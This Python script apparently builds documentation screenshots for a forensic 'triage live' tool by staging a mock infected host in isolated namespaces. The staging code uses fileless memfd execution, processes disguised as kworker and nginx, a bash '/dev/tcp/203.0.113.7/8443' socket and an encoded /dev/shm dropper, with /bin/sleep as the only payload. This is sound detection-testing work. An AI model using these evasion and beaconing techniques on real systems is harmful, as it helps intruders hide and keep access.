"""The pictures of the documentation, as the tool makes them: docs/triage-live.svg and
docs/triage-html.png. As root, on a machine with ``unshare`` and Chromium:

python -m tests.report.screenshots

A small infected box is staged in namespaces of its own (processes, host name, /dev/shm), ``triage
live`` looks at it, and what it wrote is drawn. Look at the pictures before you commit them.
"""

from __future__ import annotations

import base64
import gzip
import os
import pty
import re
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

DOCS = Path(__file__).resolve().parents[2] / "docs"
WIDTH = 100
_SPACES = ("--pid", "--fork", "--mount-proc", "--uts", "--ipc", "--net")
_ESCAPE = re.compile(r"\x1b\[[0-9;]*m")


def main(arguments: list[str]) -> None:
    if arguments:
        return inside(Path(arguments[0]))
    with tempfile.TemporaryDirectory(dir="/var/tmp") as place:
        again = [sys.executable, "-m", "tests.report.screenshots", place]
        subprocess.run(["unshare", *_SPACES, *again], check=True)
        for name in ("shown", "report.html"):  # which kernel drew it is of no interest
            text = Path(place, name).read_text("utf-8").replace(f"{os.uname().release} ", "")
            Path(place, name).write_text(text, "utf-8")
        (DOCS / "triage-live.svg").write_text(drawn(Path(place, "shown").read_text("utf-8")))
        picture(Path(place, "report.html"), DOCS / "triage-html.png")
    return None


def inside(place: Path) -> None:
    """In the namespaces: stage, look, and leave what was shown and the HTML report."""
    socket.sethostname("web-03")
    for line in reversed(Path("/proc/self/mountinfo").read_text("utf-8").splitlines()):
        point = line.split()[4]
        if point.startswith(("/tmp/", "/mnt/", "/media/")):  # in this namespace alone
            subprocess.run(["umount", "--lazy", point], check=True)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=1777", "shm", "/dev/shm"], check=True)
    staged = stage()
    command = [sys.executable, "-m", "triage", "live", "--width", str(WIDTH)]
    shown = bytearray()

    def read(descriptor: int) -> bytes:
        data = os.read(descriptor, 1 << 16)
        shown.extend(data)
        return data

    pty.spawn([*command, "-o", f"html={place / 'report.html'}"], read)
    (place / "shown").write_bytes(bytes(shown).replace(b"\r\n", b"\n"))
    for process in staged:
        process.kill()
        process.wait()


def stage() -> list[subprocess.Popen[bytes]]:
    """An implant in a memory file, two workers of one kind, a script in a memory file, a loader."""
    program = Path("/bin/sleep").read_bytes()
    staged = [
        memory_program("kworker/u8:2", program, ["[kworker/u8:2-events]", "600"]),
        memory_program("x", program, ["nginx: worker process", "600"]),
        memory_program("x", program, ["nginx: worker process", "600"]),
    ]
    script = os.memfd_create("s", 0)
    os.write(script, b"#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.7/8443\nsleep 600\n")
    command = ["/bin/bash", f"/dev/fd/{script}"]
    staged.append(subprocess.Popen(command, pass_fds=(script,), stderr=subprocess.DEVNULL, env={}))
    os.close(script)
    loader = base64.encodebytes(gzip.compress(program, mtime=0))
    text = b"#!/bin/sh\nbase64 -d <<'E' | gzip -dc >/dev/shm/.x && chmod +x /dev/shm/.x\n"
    Path("/dev/shm/PostgreSQL.2087").write_bytes(text + loader + b"E\n")
    return staged


def memory_program(name: str, program: bytes, arguments: list[str]) -> subprocess.Popen[bytes]:
    descriptor = os.memfd_create(name, 0)
    os.write(descriptor, program)
    started = subprocess.Popen(
        arguments, executable=f"/proc/self/fd/{descriptor}", pass_fds=(descriptor,), env={}
    )
    os.close(descriptor)
    return started


def drawn(shown: str) -> str:
    """The first part of what the terminal showed as SVG, with fonts of the reader's machine."""
    from rich.console import Console
    from rich.text import Text

    lines = shown.splitlines()
    start = next(at for at, line in enumerate(lines) if "CRITICAL" in line)
    end = next(at for at, line in enumerate(lines) if "LOOKED AT" in _ESCAPE.sub("", line))
    console = Console(record=True, width=WIDTH, file=open(os.devnull, "w"))  # noqa: SIM115
    console.print(Text.from_ansi("\n".join(["# triage live", "", *lines[start : end - 1]])))
    text = console.export_svg(title="triage live", unique_id="triage")
    # Rich names a font of another server; a page of ours loads nothing.
    text = re.sub(r"@font-face \{.*?\}\n?", "", text, flags=re.DOTALL)
    return text.replace("Fira Code", '"DejaVu Sans Mono", Menlo, Consolas')


def picture(page: Path, target: Path) -> None:
    from tests.report.chromium import Browser, find

    program = find()
    if program is None:
        raise SystemExit("no Chromium on this machine")
    profile = Path(tempfile.mkdtemp())
    browser = Browser(program, profile)
    try:
        browser.screen(1100, 900)
        browser.open(page)
        browser.picture(target)
    finally:
        browser.close()
        shutil.rmtree(profile, ignore_errors=True)


if __name__ == "__main__":
    main(sys.argv[1:])
